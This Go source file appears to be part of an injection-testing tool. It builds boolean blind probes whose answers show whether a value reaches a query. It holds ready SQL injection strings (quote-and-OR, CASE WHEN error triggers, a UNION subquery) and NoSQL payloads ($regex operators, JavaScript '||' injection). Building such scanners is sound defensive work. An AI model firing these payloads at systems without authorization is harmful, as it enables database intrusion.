package proberun

import (
	"encoding/json"
	"fmt"

	"gauntlet/capability"
	"gauntlet/internal/leaf/probe"
)

// A Condition puts a comparison of random numbers where a query would compute it. Whether the answers
// follow its truth tells whether the value is part of the query.
type Condition struct {
	Variant string
	write   func(holds bool, m Mark) any
	// All says that the value stands in all free texts of the tool: a name alone opens nothing where a
	// password has to fit as well.
	All bool
}

// Value makes the value whose condition holds or does not, and its text. Marks must differ from value
// to value.
// A twin has no syntax, see Twin.
func (c *Condition) Value(holds, twin bool, m Mark) (value any, text string) {
	value = c.write(holds, m)
	if twin {
		value = Twin(value, "")
	}
	if s, ok := value.(string); ok {
		return s, s
	}
	encoded, err := json.Marshal(value)
	if err != nil { // maps of strings always can be
		panic(err)
	}
	return value, string(encoded)
}

// comparison is a condition in words of SQL and JavaScript: a product, and what it is said to be.
func comparison(holds bool, m Mark, equals string) string {
	said := m.A * m.B
	if !holds {
		said++
	}
	return fmt.Sprintf("%d*%d%s%d", m.A, m.B, equals, said)
}

// inSQL puts a condition between two texts. A random word comes first, since no record holds it.
func inSQL(variant, before, after string) Condition {
	return Condition{Variant: variant, write: func(holds bool, m Mark) any { return before + comparison(holds, m, "=") + after }}
}

func behindWord(variant, before, after string) Condition {
	return Condition{Variant: variant, write: func(holds bool, m Mark) any { return m.Token + before + comparison(holds, m, "=") + after }}
}

var sqlConditions = []Condition{
	behindWord("a condition behind a quotation mark", "' OR ", " -- "),
	behindWord("a condition behind a quotation mark and a bracket", "') OR ", " -- "),
	behindWord("a condition behind a double quotation mark", `" OR `, " -- "),
	inSQL("a condition behind a number", "0 OR ", ""),
	inSQL("a limit behind a column", "1 LIMIT (CASE WHEN ", " THEN 1 ELSE 0 END) -- "),
	inSQL("a sort that can fail", "(CASE WHEN ", " THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)"),
	inSQL("a sort that can fail in SQLite", "(CASE WHEN ", " THEN 1 ELSE abs(-9223372036854775808) END)"),
}

// operator is an operator of a document database. It has the same name and length both times: a refusal may
// tell either.
func operator(holds bool, m Mark) any {
	if holds {
		return map[string]any{"$regex": "^(?!" + m.Token + ")"}
	}
	return map[string]any{"$regex": "^(?=" + m.Token + ")"}
}

var noSQLConditions = []Condition{
	{Variant: "an operator in the place of a text", write: operator},
	{Variant: "an operator in the place of every text", write: operator, All: true},
	{Variant: "code in a condition", write: func(holds bool, m Mark) any {
		return m.Token + "' || " + comparison(holds, m, "==") + " || '"
	}},
}

// Conditions are the comparisons to try on a target, none for classes that have no such proof and for
// parameters that take a whole query: whoever writes that writes its conditions.
func (t *Target) Conditions() []Condition {
	switch {
	case t.Role == capability.Query || t.Role == capability.Command:
		return nil
	case t.Class == probe.SQLInjection:
		return sqlConditions
	case t.Class == probe.NoSQLInjection:
		// A text can be no operator, but many servers never compare arguments with their schema.
		return noSQLConditions
	}
	return nil
}
